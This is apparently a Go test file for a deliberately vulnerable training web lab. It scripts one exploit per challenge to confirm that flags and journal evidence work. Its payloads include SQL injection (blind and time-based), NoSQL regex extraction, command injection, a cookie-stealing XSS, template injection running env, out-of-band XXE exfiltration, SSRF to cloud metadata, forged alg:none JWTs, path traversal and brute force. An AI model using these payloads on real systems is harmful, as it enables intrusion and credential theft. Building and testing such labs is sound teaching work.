@@ -0,0 +1,369 @@
+package endpoints
+
+import (
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/cookiejar"
+	"net/http/httptest"
+	"net/url"
+	"os"
+	"regexp"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"vulnWeb/pkg/sandbox"
+)
+
+// Песочница запускает команды, перезапуская текущий бинарник - в тестах тоже
+func TestMain(m *testing.M) {
+	sandbox.Init()
+	os.Exit(m.Run())
+}
+
+// Клиент учащегося для сценариев: своя cookie learner_id, cookie стенда в jar,
+// перенаправления не выполняются
+type learnerClient struct {
+	t       *testing.T
+	base    string
+	learner string
+	http    *http.Client
+}
+
+func newLearnerClient(t *testing.T, base string, n int) *learnerClient {
+	jar, _ := cookiejar.New(nil)
+	learner := fmt.Sprintf("%032x", 0xe71de0ce00+n)
+	u, _ := url.Parse(base)
+	jar.SetCookies(u, []*http.Cookie{{Name: learnerCookieName, Value: learner}})
+	return &learnerClient{t: t, base: base, learner: learner, http: &http.Client{
+		Jar: jar,
+		CheckRedirect: func(*http.Request, []*http.Request) error {
+			return http.ErrUseLastResponse
+		},
+	}}
+}
+
+// Выполнить запрос; заголовки передаются парами имя, значение
+func (c *learnerClient) do(method, target string, form url.Values, header ...string) (*http.Response, string) {
+	c.t.Helper()
+	var body io.Reader
+	if form != nil {
+		body = strings.NewReader(form.Encode())
+	}
+	req, err := http.NewRequest(method, c.base+target, body)
+	if err != nil {
+		c.t.Fatal(err)
+	}
+	if form != nil {
+		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	}
+	for i := 0; i+1 < len(header); i += 2 {
+		req.Header.Set(header[i], header[i+1])
+	}
+	resp, err := c.http.Do(req)
+	if err != nil {
+		c.t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	data, _ := io.ReadAll(resp.Body)
+	return resp, string(data)
+}
+
+func (c *learnerClient) get(target string, header ...string) string {
+	c.t.Helper()
+	_, body := c.do("GET", target, nil, header...)
+	return body
+}
+
+func (c *learnerClient) post(target string, form url.Values, header ...string) string {
+	c.t.Helper()
+	_, body := c.do("POST", target, form, header...)
+	return body
+}
+
+func (c *learnerClient) setCookie(name, value string) {
+	u, _ := url.Parse(c.base)
+	c.http.Jar.SetCookies(u, []*http.Cookie{{Name: name, Value: value}})
+}
+
+func (c *learnerClient) domain() *domain {
+	return domains.Get(c.learner)
+}
+
+// Первое совпадение группы re в s
+func submatch(t *testing.T, re, s string) string {
+	t.Helper()
+	m := regexp.MustCompile(re).FindStringSubmatch(s)
+	if m == nil {
+		t.Fatalf("no %s in %s", re, s)
+	}
+	return m[1]
+}
+
+func base64JSON(v string) string {
+	return base64.RawURLEncoding.EncodeToString([]byte(v))
+}
+
+// Эксплуатация заданий с проверкой по журналу. Сценарий возвращает то, в чем учащийся
+// находит флаг: ответ сервера, заголовок или значение, извлеченное вслепую
+var evidenceScenarios = map[string]func(c *learnerClient, e *endpoints) string{
+	"a01_1": func(c *learnerClient, _ *endpoints) string {
+		return c.get("/api/v1/users/2")
+	},
+	"a01_2": func(c *learnerClient, _ *endpoints) string {
+		return c.get("/api/v1/admin/users?is_admin=true")
+	},
+	"a01_3": func(c *learnerClient, _ *endpoints) string {
+		resp, _ := c.do("POST", "/api/v1/auth/login", url.Values{"redirect": {"https://evil.com/"}})
+		return resp.Header.Get("X-Lab-Flag")
+	},
+	"a01_4": func(c *learnerClient, _ *endpoints) string {
+		token := base64JSON(`{"alg":"none","typ":"JWT"}`) + "." + base64JSON(`{"name":"admin","role":"admin"}`) + "."
+		return c.get("/api/v1/auth/verify", "Authorization", "Bearer "+token)
+	},
+	"a01_5": func(c *learnerClient, _ *endpoints) string {
+		return c.get("/api/v1/files?file=/var/www/app/config/config.json")
+	},
+	"a01_6": func(c *learnerClient, _ *endpoints) string {
+		return c.get("/api/v1/admin/config", "X-Admin", "true")
+	},
+	"a01_7": func(c *learnerClient, _ *endpoints) string {
+		return c.get("/api/v1/user/profile", "Origin", "http://evil.com")
+	},
+	"a01_8": func(c *learnerClient, _ *endpoints) string {
+		var wg sync.WaitGroup
+		bodies := make([]string, 2)
+		for i := range bodies {
+			wg.Add(1)
+			go func() {
+				defer wg.Done()
+				bodies[i] = c.post("/api/v1/payment/transfer", url.Values{"amount": {"30000"}, "to_user": {"2"}})
+			}()
+		}
+		wg.Wait()
+		return strings.Join(bodies, "\n")
+	},
+	"a01_9": func(c *learnerClient, _ *endpoints) string {
+		return c.get("/api/v1/admin/dashboard")
+	},
+	"a01_10": func(c *learnerClient, _ *endpoints) string {
+		return c.get("/api/v1/user/settings?bypass_auth=true")
+	},
+	"a02_7": func(c *learnerClient, _ *endpoints) string {
+		resp, _ := c.do("GET", "/api/v1/auth/session", nil)
+		return strings.Join(resp.Header.Values("Set-Cookie"), "\n")
+	},
+	"a02_8": func(c *learnerClient, _ *endpoints) string {
+		return c.get("/api/v1/backup?file=../backups-archive/database_backup_2024.sql")
+	},
+	"a05_1": func(c *learnerClient, _ *endpoints) string {
+		return c.get("/api/v1/users/search?q=" + url.QueryEscape("' OR '1'='1"))
+	},
+	"a05_2": func(c *learnerClient, _ *endpoints) string {
+		return c.post("/api/v1/network/ping", url.Values{"host": {"8.8.8.8; env"}})
+	},
+	"a05_3": func(c *learnerClient, e *endpoints) string {
+		c.get("/api/v1/comments")
+		c.post("/api/v1/comments", url.Values{"user": {"eve"}, "comment": {
+			`<img src=x onerror="new Image().src='/api/lab/collector/steal?c='+encodeURIComponent(document.cookie)">`,
+		}})
+		reviewComments(e.r, c.learner, c.domain())
+		stolen, _ := url.QueryUnescape(submatch(c.t, `c=([^"&\s]+)`, c.get(collectorPath)))
+		c.setCookie(sessionCookieName, submatch(c.t, sessionCookieName+`=(\w+)`, stolen))
+		return c.get(moderationRoute)
+	},
+	"a05_5": func(c *learnerClient, _ *endpoints) string {
+		// Ключ подбирается посимвольно: поиск находит admin, пока префикс совпадает
+		key := "FLAG{"
+		for len(key) < 37 {
+			found := false
+			for _, ch := range "0123456789abcdef" {
+				q := url.QueryEscape("^" + regexp.QuoteMeta(key+string(ch)))
+				if strings.Contains(c.get("/api/v1/users/find?username=admin&api_key[$regex]="+q), `"count": 1`) {
+					key += string(ch)
+					found = true
+					break
+				}
+			}
+			if !found {
+				c.t.Fatalf("no next character after %s", key)
+			}
+		}
+		return key + "}"
+	},
+	"a05_6": func(c *learnerClient, _ *endpoints) string {
+		return c.get("/api/v1/render?template=" + url.QueryEscape("{{.Config.SecretKey}}"))
+	},
+	"a05_7": func(c *learnerClient, _ *endpoints) string {
+		return c.post("/api/v1/xml/parse", url.Values{"xml": {`<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///var/www/app/config/config.json">]><foo>&xxe;</foo>`}})
+	},
+	"a05_8": func(c *learnerClient, _ *endpoints) string {
+		return c.get("/api/v1/files/download?file=....//....//....//....//etc/passwd")
+	},
+	"a05_12": func(c *learnerClient, _ *endpoints) string {
+		return c.get("/api/v1/orders/search?status=" + url.QueryEscape("x' UNION SELECT id, service, api_key, owner FROM api_keys-- "))
+	},
+	"a05_13": func(c *learnerClient, _ *endpoints) string {
+		// Двоичный поиск по каждому символу ключа: ответ "существует" - да, иначе нет
+		exists := func(cond string) bool {
+			q := url.QueryEscape("admin' AND " + cond + "-- ")
+			return strings.Contains(c.get("/api/v1/users/exists?username="+q), `"exists": true`)
+		}
+		key := ""
+		for pos := 1; pos <= 38; pos++ {
+			char := fmt.Sprintf("ASCII(SUBSTR((SELECT api_key FROM api_keys WHERE service='flag-vault'), %d, 1))", pos)
+			lo, hi := 0, 127
+			for lo < hi {
+				mid := (lo + hi) / 2
+				if exists(fmt.Sprintf("%s > %d", char, mid)) {
+					lo = mid + 1
+				} else {
+					hi = mid
+				}
+			}
+			key += string(rune(lo))
+		}
+		return key
+	},
+	"a05_14": func(c *learnerClient, _ *endpoints) string {
+		// Посимвольный перебор по времени занял бы минуты: сверяем ключ целиком,
+		// пауза бывает только при верном значении
+		flag := challengeFlag(c.learner, "a05_14")
+		slept := func(value string) bool {
+			q := url.QueryEscape(fmt.Sprintf("1001' AND (SELECT api_key FROM api_keys WHERE service='flag-vault') = '%s' AND SLEEP(1)-- ", value))
+			start := time.Now()
+			c.get("/api/v1/orders/track?id=" + q)
+			return time.Since(start) >= time.Second
+		}
+		if slept("FLAG{wrong}") || !slept(flag) {
+			return ""
+		}
+		return flag
+	},
+	"a05_15": func(c *learnerClient, _ *endpoints) string {
+		return c.get("/api/v1/render/email?template=" + url.QueryEscape("{{range .Shop.Users}}{{.Username}}:{{.Password}} {{end}}"))
+	},
+	"a05_16": func(c *learnerClient, _ *endpoints) string {
+		return c.get("/api/v1/render/page?template=" + url.QueryEscape(`{{exec "env"}}`))
+	},
+	"a05_17": func(c *learnerClient, _ *endpoints) string {
+		c.post("/api/lab/oob", url.Values{"path": {"/evil.dtd"}, "content": {
+			`<!ENTITY % file SYSTEM "file:///var/www/app/config/license.key"> <!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://oob.lab/?d=%file;'>"> %eval; %exfil;`,
+		}})
+		c.post("/api/v1/xml/import", url.Values{"xml": {`<!DOCTYPE catalog [<!ENTITY % dtd SYSTEM "http://oob.lab/evil.dtd"> %dtd;]><catalog/>`}})
+		return c.get("/api/lab/oob")
+	},
+	"a05_18": func(c *learnerClient, _ *endpoints) string {
+		return c.get("/api/v1/link/preview?url=http://2852039166/latest/meta-data/")
+	},
+	"a05_19": func(c *learnerClient, _ *endpoints) string {
+		target := "http://oob.lab/redirect?url=" + url.QueryEscape("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
+		return c.get("/api/v1/avatar/import?url=" + url.QueryEscape(target))
+	},
+	"a05_20": func(c *learnerClient, _ *endpoints) string {
+		return c.get("/api/v1/feed/fetch?url=" + url.QueryEscape("http://cb00710a.a9fea9fe.rebind.lab/latest/meta-data/"))
+	},
+	"a06_7": func(c *learnerClient, _ *endpoints) string {
+		c.post("/api/v1/auth/login/no2fa", url.Values{"email": {"admin@company.com"}, "password": {"admin123"}})
+		return c.get("/api/v1/a06/auth/verify")
+	},
+	"a06_8": func(c *learnerClient, _ *endpoints) string {
+		return c.get("/api/v1/a06/session/create")
+	},
+	"a06_10": func(c *learnerClient, _ *endpoints) string {
+		c.post("/api/v1/a06/password/reset", url.Values{"email": {"jane.smith@company.com"}}, "X-Forwarded-Host", "oob.lab")
+		token := submatch(c.t, `token=(\w+)`, c.get("/api/lab/oob"))
+		return c.post("/api/v1/a06/password/reset", url.Values{"token": {token}, "password": {"Pwned-2024!"}})
+	},
+	"a07_2": func(c *learnerClient, _ *endpoints) string {
+		// Новый адрес в X-Forwarded-For и новое написание email на каждую попытку
+		for i, password := range []string{"123456", "password", "qwerty", "letmein", "welcome", "admin456"} {
+			email := "jane.smith@company.com"
+			if i > 0 {
+				email = strings.ToUpper(email[:i]) + email[i:]
+			}
+			body := c.post("/api/v1/auth/bruteforce", url.Values{"email": {email}, "password": {password}},
+				"X-Forwarded-For", fmt.Sprintf("198.51.100.%d", i+1))
+			if strings.Contains(body, `"success"`) {
+				return body
+			}
+		}
+		return ""
+	},
+	"a07_4": func(c *learnerClient, _ *endpoints) string {
+		return c.get("/api/v1/session/verify?session_id=admin_session_123")
+	},
+	"a07_5": func(c *learnerClient, _ *endpoints) string {
+		c.get("/api/v1/a07/session/create")
+		return c.get("/api/v1/session/info")
+	},
+	"a07_6": func(c *learnerClient, _ *endpoints) string {
+		c.post("/api/v1/a07/password/reset", url.Values{"email": {"john.doe@company.com"}})
+		c.post("/api/v1/a07/password/reset", url.Values{"email": {"admin@company.com"}})
+		var own int
+		fmt.Sscan(submatch(c.t, `token=(\d+)`, c.get(mailPath+"/john.doe@company.com")), &own)
+		return c.post("/api/v1/a07/password/reset", url.Values{"token": {fmt.Sprint(own + 1)}, "password": {"Pwned-2024!"}})
+	},
+	"a07_7": func(c *learnerClient, _ *endpoints) string {
+		// Код с телефона администратора, перехваченный после входа, вводится повторно
+		e, _ := c.domain().MFA("3")
+		code := hotp(e.Secret, uint64(time.Now().Unix()/totpPeriod))
+		login := url.Values{"email": {"admin@company.com"}, "password": {"admin123"}}
+		c.post("/api/v1/auth/login/no2fa", login)
+		c.post("/api/v1/auth/mfa/verify", url.Values{"code": {code}})
+		c.post("/api/v1/auth/login/no2fa", login)
+		return c.post("/api/v1/auth/mfa/verify", url.Values{"code": {code}})
+	},
+	"a07_8": func(c *learnerClient, _ *endpoints) string {
+		return c.get("/api/v1/a07/session/create?session_id=admin_session_123")
+	},
+	"a07_9": func(c *learnerClient, _ *endpoints) string {
+		c.setCookie(sessionCookieName, "admin_session_123")
+		return c.get("/api/v1/session/validate")
+	},
+}
+
+// Каждое правило Evidence из каталога выполнимо: после настоящей эксплуатации журнал
+// учащегося ему соответствует, а флаг выдан
+func TestCatalogEvidence(t *testing.T) {
+	e := New(Options{DataDir: t.TempDir()}, http.NewServeMux())
+	if err := e.FillEndpoints(); err != nil {
+		t.Fatal(err)
+	}
+	srv := httptest.NewServer(e.Handler())
+	defer srv.Close()
+
+	for key := range evidenceScenarios {
+		if c, ok := catalog[key]; !ok || len(c.Check.Evidence) == 0 {
+			t.Errorf("%s: scenario for a challenge without evidence", key)
+		}
+	}
+	n := 0
+	for key, challenge := range catalog {
+		if len(challenge.Check.Evidence) == 0 {
+			continue
+		}
+		scenario, ok := evidenceScenarios[key]
+		if !ok {
+			t.Errorf("%s: no scenario", key)
+			continue
+		}
+		n++
+		t.Run(key, func(t *testing.T) {
+			c := newLearnerClient(t, srv.URL, n)
+			defer domains.Forget(c.learner)
+			found := scenario(c, e)
+			if flag := challengeFlag(c.learner, key); !strings.Contains(found, flag) {
+				t.Errorf("flag %s not in %q", flag, found)
+			}
+			if !challenge.Check.MatchJournal(journal.Entries(c.learner)) {
+				entries, _ := json.MarshalIndent(journal.Entries(c.learner), "", "  ")
+				t.Errorf("journal does not match evidence %+v:\n%s", challenge.Check.Evidence, entries)
+			}
+		})
+	}
+}